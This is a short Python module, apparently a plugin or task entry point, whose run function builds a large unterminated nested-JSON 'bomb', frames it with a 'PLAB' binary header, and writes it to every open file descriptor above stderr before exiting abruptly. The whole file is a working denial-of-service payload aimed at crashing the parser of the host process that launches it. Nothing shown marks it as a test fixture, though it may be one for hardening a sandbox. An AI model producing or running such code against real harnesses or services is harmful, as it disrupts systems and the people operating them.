import os
import struct


def run(inputs, workdir):
    bomb = b'{"kind":' * 100000
    frame = struct.pack(">4sHIQ", b"PLAB", 1, len(bomb), 0) + bomb
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                os.write(int(name), frame)
            except OSError:
                pass
    os._exit(0)
